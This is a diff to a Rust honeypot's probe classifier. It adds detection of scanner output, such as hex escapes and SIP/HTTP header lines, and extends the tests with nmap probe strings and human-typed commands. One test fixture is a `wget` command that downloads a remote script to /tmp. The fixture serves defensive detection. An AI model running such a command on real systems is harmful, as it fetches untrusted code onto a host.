@@ -11,8 +11,10 @@
 
 /// True when `text` is what a probe sends rather than what a person or a
 /// brute-force tool types: empty, binary (control characters, replacement
-/// characters from lossy decoding), or a request line of another protocol
-/// (`GET / HTTP/1.0`, `OPTIONS / RTSP/1.0`, `OPTIONS sip:… SIP/2.0`).
+/// characters from lossy decoding, or the `\xNN` escapes services write
+/// for bytes that are not text), a request line of another protocol
+/// (`GET / HTTP/1.0`, `OPTIONS / RTSP/1.0`, `OPTIONS sip:… SIP/2.0`) or
+/// one of its header lines (`Via: SIP/2.0/TCP nm`, `Content-Length: 0`).
 pub fn is_probe_text(text: &str) -> bool {
     let t = text.trim();
     if t.is_empty() {
@@ -23,7 +25,25 @@ pub fn is_probe_text(text: &str) -> bool {
     {
         return true;
     }
-    is_foreign_request_line(t)
+    has_hex_escape(t) || is_foreign_request_line(t) || is_header_line(t)
+}
+
+fn has_hex_escape(t: &str) -> bool {
+    t.as_bytes()
+        .windows(4)
+        .any(|w| w[0] == b'\\' && w[1] == b'x' && w[2].is_ascii_hexdigit() && w[3].is_ascii_hexdigit())
+}
+
+/// `Name: value` with an RFC 9110 token name that starts upper-case, as
+/// HTTP, SIP and RTSP headers do (shell commands and login names do not).
+fn is_header_line(t: &str) -> bool {
+    let Some((name, _)) = t.split_once(": ") else {
+        return false;
+    };
+    name.starts_with(|c: char| c.is_ascii_uppercase())
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-')
 }
 
 fn is_foreign_request_line(t: &str) -> bool {
@@ -56,6 +76,14 @@ mod tests {
             "OPTIONS sip:nm SIP/2.0",
             "\u{16}\u{3}\u{0}\u{0}S\u{1}",
             "\u{fffd}\u{fffd}SMBr",
+            // What nmap -sV left as redis commands on a decky.
+            "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0",
+            "Via: SIP/2.0/TCP nm;branch=foo",
+            "Content-Length: 0",
+            "CSeq: 42 OPTIONS",
+            "Call-ID: 50000",
+            "\\x01default",
+            "\\x03\\x00\\x00*%\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=nmap",
         ] {
             assert!(is_probe_text(probe), "{probe:?}");
         }
@@ -73,6 +101,9 @@ mod tests {
             "wget http://198.51.100.7/x.sh -O /tmp/x",
             "EHLO mail.example.org",
             "SET a b",
+            "CONFIG GET dir",
+            "echo hello: world",
+            "HELP",
         ] {
             assert!(!is_probe_text(typed), "{typed:?}");
         }
